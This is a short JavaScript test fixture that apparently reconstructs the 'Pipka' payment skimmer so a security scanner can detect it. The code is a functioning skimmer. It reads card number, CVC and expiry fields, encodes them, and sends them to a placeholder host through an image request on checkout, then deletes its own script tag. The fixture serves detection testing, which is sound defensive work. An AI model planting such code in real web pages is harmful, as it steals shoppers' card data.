// expect: ES-SHOP-001
// Written for Ensuresec's tests from the public description of the "Pipka" JavaScript skimmer: Visa Payment Fraud
// Disruption, "Pipka – Identification of a New JavaScript Skimmer" (2019-11): a configurable list of card field ids,
// data encoded (base64 and ROT13) before exfiltration by image GET, and the script removes its own tag from the page
// after it runs. Not the original code.
(function () {
  var cfg = { fields: ["#billing_card_number", "#billing_card_cvc", "#billing_card_expiry"], gate: "//pipe.cdn-static.example/i" };
  function rot13(s) { return s.replace(/[a-z]/gi, function (c) { return String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26); }); }
  function collect() {
    var out = [];
    for (var k = 0; k < cfg.fields.length; k++) {
      var f = document.querySelector(cfg.fields[k]);
      out.push(f ? f.value : "");
    }
    return rot13(btoa(out.join("|")));
  }
  document.querySelector("#place_order").addEventListener("mousedown", function () {
    var i = document.createElement("img");
    i.src = cfg.gate + "?d=" + collect();
  });
  var me = document.currentScript; if (me) me.parentNode.removeChild(me);
})();
